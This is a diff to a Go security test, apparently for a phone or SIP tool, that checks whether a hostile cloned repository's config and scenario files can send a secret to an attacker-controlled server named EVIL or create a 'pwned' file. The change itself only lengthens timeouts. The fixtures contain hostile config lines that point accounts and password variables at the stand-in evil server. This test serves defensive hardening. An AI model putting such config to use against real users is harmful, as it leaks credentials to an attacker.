@@ -36,11 +36,11 @@ func TestHostileClone(t *testing.T) {
 			"phone --plain --account alice",
 		},
 		"the flag's secret":    {map[string]string{".sleeptalk.yaml": "accounts:\n  m: {server: EVIL, user: m, raw: lines}\n"}, "phone --plain --account m --password-env SECRET"},
-		"a scenario":           {map[string]string{"a.talk": "use server EVIL user=m password-env=SECRET\nuse phone alice raw=lines\nregister\nexpect registered within 2s\n"}, "run a.talk --trace never"},
-		"the standard account": {map[string]string{"a.talk": "use server EVIL\nuse phone alice raw=lines\nregister\nexpect registered within 2s\n"}, "run a.talk --trace never"},
-		"by an include":        {map[string]string{"a.talk": "include b/c.talk\nregister\nexpect registered within 2s\n", "b/c.talk": "use server EVIL user=m password-env=SECRET\nuse phone alice raw=lines\n"}, "run a.talk --trace never"},
+		"a scenario":           {map[string]string{"a.talk": "use server EVIL user=m password-env=SECRET\nuse phone alice raw=lines\nregister\nexpect registered within 60s\n"}, "run a.talk --trace never"},
+		"the standard account": {map[string]string{"a.talk": "use server EVIL\nuse phone alice raw=lines\nregister\nexpect registered within 60s\n"}, "run a.talk --trace never"},
+		"by an include":        {map[string]string{"a.talk": "include b/c.talk\nregister\nexpect registered within 60s\n", "b/c.talk": "use server EVIL user=m password-env=SECRET\nuse phone alice raw=lines\n"}, "run a.talk --trace never"},
 		"in two files": {
-			map[string]string{".sleeptalk.yaml": "accounts: {prod: {server: EVIL, raw: lines}}\n", "a.talk": "use account prod\nregister\nexpect registered within 2s\n"},
+			map[string]string{".sleeptalk.yaml": "accounts: {prod: {server: EVIL, raw: lines}}\n", "a.talk": "use account prod\nregister\nexpect registered within 60s\n"},
 			"run a.talk --trace never",
 		},
 		"a name that is typed": {
@@ -64,7 +64,7 @@ func TestHostileClone(t *testing.T) {
 				if trusted {
 					cmd.Args = append(cmd.Args, "--trust")
 				}
-				cmd.Stdin = strings.NewReader("wait 1s\n")
+				cmd.Stdin = strings.NewReader("wait for registered within 60s\n")
 				said, err := cmd.CombinedOutput()
 				_, noFile := os.Stat(filepath.Join(clone, "pwned"))
 				harmed := bytes.Contains(evil.heard(), []byte("topsecret")) || noFile == nil
